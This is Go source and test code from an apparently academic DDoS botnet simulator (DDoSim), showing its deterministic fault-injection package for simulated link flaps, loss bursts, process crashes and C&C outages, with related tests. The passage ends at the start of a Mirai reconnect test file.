}

// faultLog runs a full scenario against real netsim links and fake
// process targets and returns the observed event sequence.
func faultLog(t *testing.T, seed int64) []string {
	t.Helper()
	sched, devs := testLinks(t, seed, 3)
	cfg := Config{
		FlapPeriod:       40 * sim.Second,
		BurstLoss:        1.0,
		BurstGap:         30 * sim.Second,
		DegradePeriod:    50 * sim.Second,
		DegradeFactor:    0.25,
		CrashPeriod:      60 * sim.Second,
		CNCCrashPeriod:   90 * sim.Second,
		CNCOutagePeriod:  80 * sim.Second,
		SinkOutagePeriod: 70 * sim.Second,
	}
	inj, err := New(sched, cfg, seed, nil)
	if err != nil {
		t.Fatal(err)
	}
	var log []string
	inj.OnEvent = func(kind, actor string) {
		log = append(log, fmt.Sprintf("%d %s %s", sched.Now(), kind, actor))
	}
	for i, d := range devs {
		inj.AddLink(fmt.Sprintf("dev-%d", i), d)
		inj.AddProcTarget(ProcTarget{
			Name:    fmt.Sprintf("dev-%d", i),
			Crash:   func(rng *rand.Rand) (string, bool) { return "daemon", rng.Intn(2) == 0 },
			Restart: func(string) bool { return true },
		})
	}
	cncHost := netsim.NewStar(netsim.New(sched)).AttachHost("atk", netsim.Mbps, sim.Millisecond, 0)
	inj.SetCNC("attacker", cncHost.DefaultDevice(), ProcTarget{
		Name:    "attacker",
		Crash:   func(*rand.Rand) (string, bool) { return "cnc", true },
		Restart: func(string) bool { return true },
	})
	inj.SetSink(func(bool) {})
	inj.Start()
	if err := sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	inj.Stop()
	st := inj.Stats()
	if st.Total() == 0 {
		t.Fatal("scenario injected nothing")
	}
	return log
}

func TestInjectorScheduleIsSeedDeterministic(t *testing.T) {
	a, b := faultLog(t, 42), faultLog(t, 42)
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("same seed diverged:\n%v\nvs\n%v", a, b)
	}
	c := faultLog(t, 43)
	if reflect.DeepEqual(a, c) {
		t.Fatal("different seeds gave identical schedules")
	}
}

func TestFlapTakesLinkDownAndRestores(t *testing.T) {
	sched, devs := testLinks(t, 1, 1)
	inj, err := New(sched, Config{
		FlapPeriod: sim.Minute, FlapDown: 5 * sim.Second, FlapMode: FlapPeriodic,
	}, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	inj.AddLink("dev-0", devs[0])
	inj.Start()
	sawDown := false
	tick := sim.NewTicker(sched, sim.Second, func() {
		if !devs[0].IsUp() {
			sawDown = true
		}
	})
	tick.Start()
	if err := sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	tick.Stop()
	if !sawDown {
		t.Fatal("link never flapped")
	}
	if !devs[0].IsUp() {
		t.Fatal("link not restored after flap window")
	}
	if inj.Stats().LinkFlaps == 0 {
		t.Fatal("no flaps counted")
	}
}

func TestDegradeRestoresRateAndQueue(t *testing.T) {
	sched, devs := testLinks(t, 1, 1)
	origRate, origQueue := devs[0].Rate(), devs[0].QueueLimit()
	inj, err := New(sched, Config{
		DegradePeriod: 30 * sim.Second, DegradeDown: 5 * sim.Second,
		DegradeFactor: 0.25, DegradeQueueFactor: 0.5,
	}, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	inj.AddLink("dev-0", devs[0])
	inj.Start()
	sawSlow := false
	tick := sim.NewTicker(sched, sim.Second, func() {
		if devs[0].Rate() < origRate {
			sawSlow = true
			if devs[0].QueueLimit() >= origQueue {
				t.Error("queue not shortened in degrade window")
			}
		}
	})
	tick.Start()
	if err := sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	tick.Stop()
	if !sawSlow {
		t.Fatal("link never degraded")
	}
	if devs[0].Rate() != origRate || devs[0].QueueLimit() != origQueue {
		t.Fatalf("not restored: rate %v queue %d", devs[0].Rate(), devs[0].QueueLimit())
	}
	if inj.Stats().DegradeWindows == 0 {
		t.Fatal("no degrade windows counted")
	}
}

func TestCrashRestartAndBotStaysDead(t *testing.T) {
	sched, _ := testLinks(t, 1, 0)
	inj, err := New(sched, Config{
		CrashPeriod: 20 * sim.Second, RestartDelay: 2 * sim.Second,
	}, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	crashes, restarts := 0, 0
	inj.AddProcTarget(ProcTarget{
		Name: "dev-0",
		Crash: func(*rand.Rand) (string, bool) {
			crashes++
			if crashes%2 == 0 {
				return "bot", true // the supervisor must not revive bots
			}
			return "daemon", true
		},
		Restart: func(what string) bool {
			if what == "bot" {
				return false
			}
			restarts++
			return true
		},
	})
	inj.Start()
	if err := sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	st := inj.Stats()
	if st.ProcCrashes == 0 || int(st.ProcCrashes) != crashes {
		t.Fatalf("ProcCrashes = %d, crashes = %d", st.ProcCrashes, crashes)
	}
	if st.ProcRestarts == 0 || int(st.ProcRestarts) != restarts {
		t.Fatalf("ProcRestarts = %d, restarts = %d (bot revivals?)", st.ProcRestarts, restarts)
	}
	if st.ProcRestarts >= st.ProcCrashes {
		t.Fatalf("every crash restarted (%d/%d); bots must stay dead", st.ProcRestarts, st.ProcCrashes)
	}
}

func TestStopQuiescesPendingFaults(t *testing.T) {
	sched, devs := testLinks(t, 1, 1)
	inj, err := New(sched, Config{FlapPeriod: 10 * sim.Second, FlapMode: FlapPeriodic}, 1, nil)
	if err != nil {
		t.Fatal(err)
	}
	inj.AddLink("dev-0", devs[0])
	inj.Start()
	inj.Stop()
	if err := sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if inj.Stats().LinkFlaps != 0 {
		t.Fatalf("stopped injector still flapped %d times", inj.Stats().LinkFlaps)
	}
	if !devs[0].IsUp() {
		t.Fatal("link down after Stop")
	}
}
