// Package faults is DDoSim's deterministic fault-injection subsystem.
// It composes scenario schedules on top of the netsim/container
// primitives the substrate already has — link up/down (SetUp),
// receive-loss (SetLossRate), rate/queue shaping (SetRate,
// SetQueueLimit), process kill/respawn — without owning any mechanism
// of its own:
//
//   - link flaps: per-device outages, periodic (phase-staggered) or
//     random (exponential inter-arrival), restored after a fixed down
//     time;
//   - loss bursts: a Gilbert-Elliott-style two-state chain per device
//     alternating a good state (loss 0) with exponentially-distributed
//     bad states at a configured loss rate — up to 1.0, a fully dead
//     receive path;
//   - degradation windows: the link rate is scaled down (and the
//     drop-tail queue optionally shortened) for a window, modeling
//     congested or duty-cycled radios — latency rises through
//     serialization delay and queue buildup, never by editing the
//     propagation delay (mid-run delay changes would break the
//     device's FIFO in-flight matching);
//   - process crashes: a random live process in a target container is
//     killed; a supervisor hook restarts the container's service
//     daemon after a delay (a killed bot stays dead — re-infection is
//     the botnet's problem, which is exactly what the resilience
//     experiment measures);
//   - C&C outages: the attacker's uplink goes down for a window,
//     severing every bot connection and the loader's sessions at once;
//   - sink outages: TServer's measurement application stops logging
//     for a window.
//
// Determinism contract: every fault instant is drawn from the
// injector's own rand.Rand (seeded from the run seed xor a fixed
// constant, the same dedicated-stream pattern core uses for fleet
// parameters) and scheduled on the sim.Scheduler. Equal seeds therefore
// give byte-identical fault schedules, and a zero Config injects
// nothing and registers nothing — artifacts of fault-free runs are
// untouched byte for byte.
package faults

import (
	"fmt"
	"math/rand"

	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

// Flap scheduling modes.
const (
	FlapRandom   = "random"   // exponential inter-arrival (default)
	FlapPeriodic = "periodic" // fixed period, phase-staggered across links
)

// seedMix separates the injector's RNG stream from the scheduler's and
// core's fleet stream; fault draws must not perturb either.
const seedMix = 0xfa017

// Config declares a fault scenario. The zero value injects nothing.
// Every *Period is the mean (or exact, for periodic flaps) interval
// between fault arrivals per target; a zero period disables that fault
// class. Durations left zero take the documented defaults.
type Config struct {
	// Link flaps (per Dev link).
	FlapPeriod sim.Time // 0 disables
	FlapDown   sim.Time // outage length; default 5 s
	FlapMode   string   // FlapRandom (default) or FlapPeriodic

	// Gilbert-Elliott loss bursts (per Dev link).
	BurstLoss float64  // loss rate inside a burst, (0,1]; 0 disables
	BurstMean sim.Time // mean bad-state duration; default 5 s
	BurstGap  sim.Time // mean good-state duration; default 45 s

	// Degradation windows (per Dev link).
	DegradePeriod      sim.Time // 0 disables
	DegradeDown        sim.Time // window length; default 10 s
	DegradeFactor      float64  // rate multiplier in-window; default 0.25
	DegradeQueueFactor float64  // queue-limit multiplier in-window; default 1 (unchanged)

	// Process crashes (per Dev container).
	CrashPeriod  sim.Time // 0 disables
	RestartDelay sim.Time // supervisor respawn delay; default 5 s

	// C&C: process crashes (kill + re-exec after RestartDelay) and
	// link outage windows.
	CNCCrashPeriod  sim.Time // 0 disables
	CNCOutagePeriod sim.Time // 0 disables
	CNCOutageDown   sim.Time // outage length; default 10 s
	// CNCTakedownAfterOrder is the permanent-takedown scenario: this
	// long after core reports the attack order went out (the injector's
	// OnAttackOrder hook), the C&C daemon is killed and the attacker's
	// uplink severed — with no restart and no restore for the rest of
	// the run. The one-shot fault the takedown-resilience contrast
	// between the centralized and P2P families is measured under.
	CNCTakedownAfterOrder sim.Time // 0 disables

	// TServer sink outage windows (measurement loss).
	SinkOutagePeriod sim.Time // 0 disables
	SinkOutageDown   sim.Time // outage length; default 10 s
}

// Enabled reports whether the scenario injects anything at all.
func (c Config) Enabled() bool {
	return c.FlapPeriod > 0 || c.BurstLoss > 0 || c.DegradePeriod > 0 ||
		c.CrashPeriod > 0 || c.CNCCrashPeriod > 0 || c.CNCOutagePeriod > 0 ||
		c.CNCTakedownAfterOrder > 0 || c.SinkOutagePeriod > 0
}

// Validate checks the scenario for contradictions.
func (c Config) Validate() error {
	switch {
	case c.BurstLoss < 0 || c.BurstLoss > 1:
		return fmt.Errorf("faults: BurstLoss %v outside [0,1]", c.BurstLoss)
	case c.DegradeFactor < 0 || c.DegradeFactor > 1:
		return fmt.Errorf("faults: DegradeFactor %v outside [0,1]", c.DegradeFactor)
	case c.DegradeQueueFactor < 0 || c.DegradeQueueFactor > 1:
		return fmt.Errorf("faults: DegradeQueueFactor %v outside [0,1]", c.DegradeQueueFactor)
	case c.FlapMode != "" && c.FlapMode != FlapRandom && c.FlapMode != FlapPeriodic:
		return fmt.Errorf("faults: unknown FlapMode %q", c.FlapMode)
	case c.FlapPeriod < 0 || c.FlapDown < 0 || c.BurstMean < 0 || c.BurstGap < 0 ||
		c.DegradePeriod < 0 || c.DegradeDown < 0 || c.CrashPeriod < 0 ||
		c.RestartDelay < 0 || c.CNCCrashPeriod < 0 || c.CNCOutagePeriod < 0 ||
		c.CNCOutageDown < 0 || c.CNCTakedownAfterOrder < 0 ||
		c.SinkOutagePeriod < 0 || c.SinkOutageDown < 0:
		return fmt.Errorf("faults: negative duration in config")
	case c.DegradePeriod > 0 && c.DegradeFactor == 0 && c.DegradeQueueFactor == 0:
		return fmt.Errorf("faults: degradation enabled with zero factors")
	}
	return nil
}

// normalized fills defaulted durations.
func (c Config) normalized() Config {
	def := func(t *sim.Time, d sim.Time) {
		if *t <= 0 {
			*t = d
		}
	}
	def(&c.FlapDown, 5*sim.Second)
	def(&c.BurstMean, 5*sim.Second)
	def(&c.BurstGap, 45*sim.Second)
	def(&c.DegradeDown, 10*sim.Second)
	def(&c.RestartDelay, 5*sim.Second)
	def(&c.CNCOutageDown, 10*sim.Second)
	def(&c.SinkOutageDown, 10*sim.Second)
	if c.FlapMode == "" {
		c.FlapMode = FlapRandom
	}
	if c.DegradeFactor == 0 {
		c.DegradeFactor = 0.25
	}
	if c.DegradeQueueFactor == 0 {
		c.DegradeQueueFactor = 1
	}
	return c
}

// Timeline event kinds emitted through Injector.OnEvent.
const (
	EventLinkDown    = "fault-link-down"
	EventLinkUp      = "fault-link-up"
	EventBurstStart  = "fault-loss-burst"
	EventBurstEnd    = "fault-loss-end"
	EventDegradeOn   = "fault-degrade-on"
	EventDegradeOff  = "fault-degrade-off"
	EventProcCrash   = "fault-proc-crash"
	EventProcRestart = "fault-proc-restart"
	EventCNCDown     = "fault-cnc-down"
	EventCNCUp       = "fault-cnc-up"
	EventCNCTakedown = "fault-cnc-takedown"
	EventSinkDown    = "fault-sink-down"
	EventSinkUp      = "fault-sink-up"
)

// CatFault is the trace category for injection spans and events.
const CatFault = "fault"

// Stats counts injected faults; it lands in the run report when the
// injector is active.
type Stats struct {
	LinkFlaps      uint64 `json:"link_flaps"`
	LossBursts     uint64 `json:"loss_bursts"`
	DegradeWindows uint64 `json:"degrade_windows"`
	ProcCrashes    uint64 `json:"proc_crashes"`
	ProcRestarts   uint64 `json:"proc_restarts"`
	CNCCrashes     uint64 `json:"cnc_crashes"`
	CNCOutages     uint64 `json:"cnc_outages"`
	CNCTakedowns   uint64 `json:"cnc_takedowns"`
	SinkOutages    uint64 `json:"sink_outages"`
}

// Total sums every injection.
func (s Stats) Total() uint64 {
	return s.LinkFlaps + s.LossBursts + s.DegradeWindows + s.ProcCrashes +
		s.CNCCrashes + s.CNCOutages + s.CNCTakedowns + s.SinkOutages
}

// ProcTarget is a container whose processes the injector may crash.
// Crash kills one live process and reports a label for the timeline
// (empty, false when nothing was killable); Restart is the supervisor
// hook invoked RestartDelay later with that label, and reports whether
// anything was actually respawned (killed bots stay dead, so a bot
// crash yields no restart event).
type ProcTarget struct {
	Name    string
	Crash   func(rng *rand.Rand) (what string, ok bool)
	Restart func(what string) bool
}

// linkTarget is one fault-injectable link endpoint.
type linkTarget struct {
	name string
	dev  *netsim.NetDevice

	flapped   bool // link is down because of us
	bursting  bool
	degraded  bool
	origRate  netsim.DataRate
	origQueue int
}

// Injector drives one run's fault scenario. Build it with New, add
// targets, then Start it once the scheduler is about to run.
type Injector struct {
	sched *sim.Scheduler
	cfg   Config
	rng   *rand.Rand

	// OnEvent, when set, receives every injection for the run timeline.
	OnEvent func(kind, actor string)

	links   []*linkTarget
	procs   []ProcTarget
	cncLink *linkTarget
	cncProc *ProcTarget
	sink    func(down bool)

	trace         *obs.Tracer
	ctr           map[string]*obs.Counter
	stats         Stats
	stopped       bool
	takedownArmed bool
}

// New builds an injector for the scenario. seed is the run seed; the
// injector derives its own stream so fault draws never perturb the
// scheduler RNG. o may be nil.
func New(sched *sim.Scheduler, cfg Config, seed int64, o *obs.Obs) (*Injector, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	inj := &Injector{
		sched: sched,
		cfg:   cfg.normalized(),
		rng:   rand.New(rand.NewSource(seed ^ seedMix)),
		trace: o.Tracer(),
		ctr:   make(map[string]*obs.Counter),
	}
	if reg := o.Registry(); reg != nil && cfg.Enabled() {
		// Counters are registered only for an active scenario so a
		// fault-free run's metrics dump stays byte-identical.
		inj.ctr["flap"] = reg.Counter("faults_link_flaps_total", "link flaps injected")
		inj.ctr["burst"] = reg.Counter("faults_loss_bursts_total", "loss bursts injected")
		inj.ctr["degrade"] = reg.Counter("faults_degrade_windows_total", "degradation windows injected")
		inj.ctr["crash"] = reg.Counter("faults_proc_crashes_total", "processes crashed")
		inj.ctr["restart"] = reg.Counter("faults_proc_restarts_total", "supervisor restarts performed")
		inj.ctr["cnc"] = reg.Counter("faults_cnc_outages_total", "C&C outage windows injected")
		inj.ctr["takedown"] = reg.Counter("faults_cnc_takedowns_total", "permanent C&C takedowns injected")
		inj.ctr["sink"] = reg.Counter("faults_sink_outages_total", "sink outage windows injected")
	}
	return inj, nil
}

// AddLink registers a Dev link endpoint for flaps, bursts, and
// degradation windows.
func (inj *Injector) AddLink(name string, dev *netsim.NetDevice) {
	inj.links = append(inj.links, &linkTarget{name: name, dev: dev})
}

// AddProcTarget registers a container for process crashes.
func (inj *Injector) AddProcTarget(t ProcTarget) { inj.procs = append(inj.procs, t) }

// SetCNC registers the attacker's link endpoint (outage windows) and
// C&C process hooks (crash/re-exec).
func (inj *Injector) SetCNC(name string, dev *netsim.NetDevice, proc ProcTarget) {
	inj.cncLink = &linkTarget{name: name, dev: dev}
	inj.cncProc = &proc
}

// SetSink registers the sink outage hook; down(true) suspends
// measurement, down(false) resumes it.
func (inj *Injector) SetSink(down func(bool)) { inj.sink = down }

// Stats returns the injection counts so far.
func (inj *Injector) Stats() Stats { return inj.stats }

// Stop quiesces the injector: pending fault events become no-ops and
// in-progress windows are not restored (the run is over).
func (inj *Injector) Stop() { inj.stopped = true }

// Start schedules the scenario. Call exactly once.
func (inj *Injector) Start() {
	c := inj.cfg
	for i, lt := range inj.links {
		if c.FlapPeriod > 0 {
			first := inj.exp(c.FlapPeriod)
			if c.FlapMode == FlapPeriodic {
				// Stagger phases so the whole fleet doesn't flap in
				// lock-step.
				first = c.FlapPeriod * sim.Time(i+1) / sim.Time(len(inj.links)+1)
			}
			inj.after(first, func() { inj.flap(lt) })
		}
		if c.BurstLoss > 0 {
			inj.after(inj.exp(c.BurstGap), func() { inj.burst(lt) })
		}
		if c.DegradePeriod > 0 {
			inj.after(inj.exp(c.DegradePeriod), func() { inj.degrade(lt) })
		}
	}
	if c.CrashPeriod > 0 {
		for i := range inj.procs {
			t := &inj.procs[i]
			inj.after(inj.exp(c.CrashPeriod), func() { inj.crash(t, c.CrashPeriod, "crash") })
		}
	}
	if c.CNCCrashPeriod > 0 && inj.cncProc != nil {
		inj.after(inj.exp(c.CNCCrashPeriod), func() { inj.crash(inj.cncProc, c.CNCCrashPeriod, "crash") })
	}
	if c.CNCOutagePeriod > 0 && inj.cncLink != nil {
		inj.after(inj.exp(c.CNCOutagePeriod), inj.cncOutage)
	}
	if c.SinkOutagePeriod > 0 && inj.sink != nil {
		inj.after(inj.exp(c.SinkOutagePeriod), inj.sinkOutage)
	}
}

// exp draws an exponential interval with the given mean, floored at
// 1 ms so a pathological draw can't busy-loop the scheduler.
func (inj *Injector) exp(mean sim.Time) sim.Time {
	d := sim.Time(inj.rng.ExpFloat64() * float64(mean))
	if d < sim.Millisecond {
		d = sim.Millisecond
	}
	return d
}

// after schedules fn under the injector's stop guard.
func (inj *Injector) after(d sim.Time, fn func()) {
	inj.sched.ScheduleSrc(d, "faults", func() {
		if inj.stopped {
			return
		}
		fn()
	})
}

func (inj *Injector) emit(kind, actor string, ctr string) {
	if c := inj.ctr[ctr]; c != nil {
		c.Inc()
	}
	inj.trace.Event(inj.sched.Now(), CatFault, kind, obs.KV{K: "target", V: actor})
	if inj.OnEvent != nil {
		inj.OnEvent(kind, actor)
	}
}

// nextFlap reschedules the flap process for a link.
func (inj *Injector) nextFlap(lt *linkTarget) {
	d := inj.cfg.FlapPeriod
	if inj.cfg.FlapMode != FlapPeriodic {
		d = inj.exp(inj.cfg.FlapPeriod)
	}
	inj.after(d, func() { inj.flap(lt) })
}

// flap takes a link down for FlapDown. A link already down (churn, or
// an overlapping fault) is skipped — the flap process only reschedules.
func (inj *Injector) flap(lt *linkTarget) {
	defer inj.nextFlap(lt)
	if lt.flapped || !lt.dev.IsUp() {
		return
	}
	lt.flapped = true
	inj.sched.Barrier(func() { lt.dev.SetUp(false) })
	inj.stats.LinkFlaps++
	span := inj.trace.BeginSpan(inj.sched.Now(), CatFault, "link-flap", obs.KV{K: "target", V: lt.name})
	inj.emit(EventLinkDown, lt.name, "flap")
	inj.after(inj.cfg.FlapDown, func() {
		lt.flapped = false
		inj.trace.EndSpan(span, inj.sched.Now())
		// Restore only if nothing else (churn) brought the link up in
		// the meantime.
		if !lt.dev.IsUp() {
			inj.sched.Barrier(func() { lt.dev.SetUp(true) })
			inj.emit(EventLinkUp, lt.name, "")
		}
	})
}

// burst runs the Gilbert-Elliott bad state: loss jumps to BurstLoss
// for an exponential burst, then the chain re-enters the good state.
func (inj *Injector) burst(lt *linkTarget) {
	if lt.bursting {
		return
	}
	lt.bursting = true
	inj.sched.Barrier(func() { lt.dev.SetLossRate(inj.cfg.BurstLoss) })
	inj.stats.LossBursts++
	span := inj.trace.BeginSpan(inj.sched.Now(), CatFault, "loss-burst",
		obs.KV{K: "target", V: lt.name}, obs.KV{K: "loss", V: fmt.Sprintf("%.3f", inj.cfg.BurstLoss)})
	inj.emit(EventBurstStart, lt.name, "burst")
	inj.after(inj.exp(inj.cfg.BurstMean), func() {
		lt.bursting = false
		inj.sched.Barrier(func() { lt.dev.SetLossRate(0) })
		inj.trace.EndSpan(span, inj.sched.Now())
		inj.emit(EventBurstEnd, lt.name, "")
		inj.after(inj.exp(inj.cfg.BurstGap), func() { inj.burst(lt) })
	})
}

// degrade scales a link's rate (and optionally queue) down for a
// window, then restores the originals and reschedules.
func (inj *Injector) degrade(lt *linkTarget) {
	reschedule := func() {
		inj.after(inj.exp(inj.cfg.DegradePeriod), func() { inj.degrade(lt) })
	}
	if lt.degraded {
		reschedule()
		return
	}
	lt.degraded = true
	lt.origRate = lt.dev.Rate()
	lt.origQueue = lt.dev.QueueLimit()
	newRate := netsim.DataRate(float64(lt.origRate) * inj.cfg.DegradeFactor)
	if newRate < netsim.DataRate(1) {
		newRate = 1
	}
	inj.sched.Barrier(func() {
		lt.dev.SetRate(newRate)
		if inj.cfg.DegradeQueueFactor < 1 {
			q := int(float64(lt.origQueue) * inj.cfg.DegradeQueueFactor)
			if q < 1 {
				q = 1
			}
			lt.dev.SetQueueLimit(q)
		}
	})
	inj.stats.DegradeWindows++
	span := inj.trace.BeginSpan(inj.sched.Now(), CatFault, "degrade",
		obs.KV{K: "target", V: lt.name}, obs.KV{K: "factor", V: fmt.Sprintf("%.2f", inj.cfg.DegradeFactor)})
	inj.emit(EventDegradeOn, lt.name, "degrade")
	inj.after(inj.cfg.DegradeDown, func() {
		lt.degraded = false
		inj.sched.Barrier(func() {
			lt.dev.SetRate(lt.origRate)
			lt.dev.SetQueueLimit(lt.origQueue)
		})
		inj.trace.EndSpan(span, inj.sched.Now())
		inj.emit(EventDegradeOff, lt.name, "")
		reschedule()
	})
}

// crash kills one process in the target and schedules the supervisor
// restart; the crash process then reschedules itself.
func (inj *Injector) crash(t *ProcTarget, period sim.Time, ctr string) {
	defer inj.after(inj.exp(period), func() { inj.crash(t, period, ctr) })
	what, ok := t.Crash(inj.rng)
	if !ok {
		return
	}
	if t == inj.cncProc {
		inj.stats.CNCCrashes++
	} else {
		inj.stats.ProcCrashes++
	}
	inj.emit(EventProcCrash, t.Name+"/"+what, ctr)
	if t.Restart == nil {
		return
	}
	inj.after(inj.cfg.RestartDelay, func() {
		if !t.Restart(what) {
			return
		}
		inj.stats.ProcRestarts++
		inj.emit(EventProcRestart, t.Name+"/"+what, "restart")
	})
}

// cncOutage takes the attacker's uplink down for CNCOutageDown.
func (inj *Injector) cncOutage() {
	defer inj.after(inj.exp(inj.cfg.CNCOutagePeriod), inj.cncOutage)
	lt := inj.cncLink
	if lt.flapped || !lt.dev.IsUp() {
		return
	}
	lt.flapped = true
	inj.sched.Barrier(func() { lt.dev.SetUp(false) })
	inj.stats.CNCOutages++
	span := inj.trace.BeginSpan(inj.sched.Now(), CatFault, "cnc-outage", obs.KV{K: "target", V: lt.name})
	inj.emit(EventCNCDown, lt.name, "cnc")
	inj.after(inj.cfg.CNCOutageDown, func() {
		lt.flapped = false
		inj.trace.EndSpan(span, inj.sched.Now())
		if !lt.dev.IsUp() {
			inj.sched.Barrier(func() { lt.dev.SetUp(true) })
			inj.emit(EventCNCUp, lt.name, "")
		}
	})
}

// OnAttackOrder arms the order-relative scenarios; core calls it at
// the instant the attack command goes out. With CNCTakedownAfterOrder
// set it schedules the one-shot permanent takedown. Idempotent: a
// re-issued command (mirai command waves) does not re-arm it.
func (inj *Injector) OnAttackOrder() {
	if inj.cfg.CNCTakedownAfterOrder <= 0 || inj.takedownArmed {
		return
	}
	inj.takedownArmed = true
	inj.after(inj.cfg.CNCTakedownAfterOrder, inj.takedown)
}

// takedown is the permanent C&C kill: the daemon dies, the uplink goes
// down, and — unlike crash/outage — nothing restarts or restores them.
// Marking the link flapped for good keeps the periodic flap and outage
// processes from ever bringing it back.
func (inj *Injector) takedown() {
	if inj.cncProc != nil {
		inj.cncProc.Crash(inj.rng)
	}
	if lt := inj.cncLink; lt != nil {
		lt.flapped = true
		if lt.dev.IsUp() {
			inj.sched.Barrier(func() { lt.dev.SetUp(false) })
		}
	}
	inj.stats.CNCTakedowns++
	inj.emit(EventCNCTakedown, "attacker", "takedown")
}

// sinkOutage suspends the measurement sink for SinkOutageDown.
func (inj *Injector) sinkOutage() {
	defer inj.after(inj.exp(inj.cfg.SinkOutagePeriod), inj.sinkOutage)
	inj.sink(true)
	inj.stats.SinkOutages++
	span := inj.trace.BeginSpan(inj.sched.Now(), CatFault, "sink-outage", obs.KV{K: "target", V: "tserver"})
	inj.emit(EventSinkDown, "tserver", "sink")
	inj.after(inj.cfg.SinkOutageDown, func() {
		inj.sink(false)
		inj.trace.EndSpan(span, inj.sched.Now())
		inj.emit(EventSinkUp, "tserver", "")
	})
}
