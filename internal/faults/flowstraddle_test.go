package faults

import (
	"net/netip"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

// Flow-expiry edge cases under fault injection: a flow that straddles
// a link flap or a C&C outage must still close with exactly the
// byte/packet counts the sender offered. Flow accounting happens at
// origination (offered load), so injected drops change what the sink
// sees but never what the flow records say — that conservation is the
// invariant these tests pin.
//
// v4UDPFrameOverhead mirrors netsim's ether+IPv4+UDP header sizes
// (14+20+8) used by Packet.Size.
const v4UDPFrameOverhead = 14 + 20 + 8

// flowFaultRig is a star with flow export into buf and a src→dst UDP
// stream driven by a self-rescheduling pump.
type flowFaultRig struct {
	sched  *sim.Scheduler
	net    *netsim.Network
	buf    *obs.FlowBuffer
	src    *netsim.Node
	sock   *netsim.UDPSocket
	target netip.AddrPort
}

func newFlowFaultRig(t *testing.T) *flowFaultRig {
	t.Helper()
	sched := sim.NewScheduler(7)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	buf := &obs.FlowBuffer{}
	w.EnableFlows(netsim.FlowConfig{Sink: buf, IdleTimeout: 2 * sim.Second})
	src := star.AttachHost("src", 10*netsim.Mbps, sim.Millisecond, 8)
	dst := star.AttachHost("dst", 10*netsim.Mbps, sim.Millisecond, 8)
	if _, err := dst.BindUDP(80, nil); err != nil {
		t.Fatal(err)
	}
	sock, err := src.BindUDP(0, nil)
	if err != nil {
		t.Fatal(err)
	}
	return &flowFaultRig{
		sched: sched, net: w, buf: buf, src: src, sock: sock,
		target: netip.AddrPortFrom(dst.Addr4(), 80),
	}
}

// pump sends one padded datagram every interval until stop.
func (r *flowFaultRig) pump(interval, stop sim.Time, pad int) {
	var step func()
	step = func() {
		if r.sched.Now() >= stop {
			return
		}
		r.sock.SendPadded(r.target, nil, pad)
		r.sched.Schedule(interval, step)
	}
	r.sched.Schedule(0, step)
}

// drain finishes the run and returns total packets/bytes across all
// exported records.
func (r *flowFaultRig) drain(t *testing.T) (pkts, bytes uint64) {
	t.Helper()
	ft := r.net.Flows()
	ft.Stop()
	ft.FlushAll(r.sched.Now())
	for _, rec := range r.buf.Records() {
		pkts += rec.Packets
		bytes += rec.Bytes
	}
	return pkts, bytes
}

func TestFlowStraddlesLinkFlaps(t *testing.T) {
	rig := newFlowFaultRig(t)
	inj, err := New(rig.sched, Config{
		FlapPeriod: 8 * sim.Second,
		FlapDown:   3 * sim.Second,
		FlapMode:   FlapPeriodic,
	}, 7, nil)
	if err != nil {
		t.Fatal(err)
	}
	inj.AddLink("src-uplink", rig.src.DefaultDevice())
	inj.Start()

	// One continuous stream across several flap cycles. The 200ms
	// inter-packet gap stays under the 2s idle timeout, so the flow
	// never goes idle — it straddles every outage.
	rig.pump(200*sim.Millisecond, 60*sim.Second, 256)
	if err := rig.sched.Run(61 * sim.Second); err != nil {
		t.Fatal(err)
	}
	inj.Stop()
	if inj.Stats().LinkFlaps == 0 {
		t.Fatal("scenario injected no flaps")
	}

	pkts, bytes := rig.drain(t)
	if pkts != rig.sock.TxDatagrams {
		t.Fatalf("flow records account %d packets, socket offered %d", pkts, rig.sock.TxDatagrams)
	}
	frame := uint64(v4UDPFrameOverhead + 256)
	if bytes != pkts*frame {
		t.Fatalf("flow bytes %d, want %d (%d × %d-byte frames)", bytes, pkts*frame, pkts, frame)
	}
	// Drops really happened (the link was down for ~3s out of every
	// 8s), so delivered load is visibly below offered load — proving
	// the flow counts are origination-side, not delivery-side.
	if rig.src.DefaultDevice().Stats().DownDrops == 0 {
		t.Fatal("flaps caused no down-drops; straddling untested")
	}
}

func TestFlowStraddlesCNCOutage(t *testing.T) {
	rig := newFlowFaultRig(t)
	inj, err := New(rig.sched, Config{
		CNCOutagePeriod: 10 * sim.Second,
		CNCOutageDown:   4 * sim.Second,
	}, 7, nil)
	if err != nil {
		t.Fatal(err)
	}
	// Model the src as the C&C uplink: outages sever its device.
	inj.SetCNC("src", rig.src.DefaultDevice(), ProcTarget{})
	inj.Start()

	rig.pump(500*sim.Millisecond, 60*sim.Second, 128)
	if err := rig.sched.Run(61 * sim.Second); err != nil {
		t.Fatal(err)
	}
	inj.Stop()
	if inj.Stats().CNCOutages == 0 {
		t.Fatal("scenario injected no C&C outages")
	}

	pkts, bytes := rig.drain(t)
	if pkts != rig.sock.TxDatagrams {
		t.Fatalf("flow records account %d packets, socket offered %d", pkts, rig.sock.TxDatagrams)
	}
	frame := uint64(v4UDPFrameOverhead + 128)
	if bytes != pkts*frame {
		t.Fatalf("flow bytes %d, want %d", bytes, pkts*frame)
	}
	// Conservation must also hold per record: no record may span
	// backwards or carry zero packets.
	for i, rec := range rig.buf.Records() {
		if rec.Packets == 0 || rec.EndUS < rec.StartUS {
			t.Fatalf("degenerate record %d: %+v", i, rec)
		}
	}
}
