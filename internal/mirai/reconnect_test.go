package mirai

import (
	"net/netip"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// runFor advances the scheduler by d from its current clock
// (Scheduler.Run takes an absolute horizon).
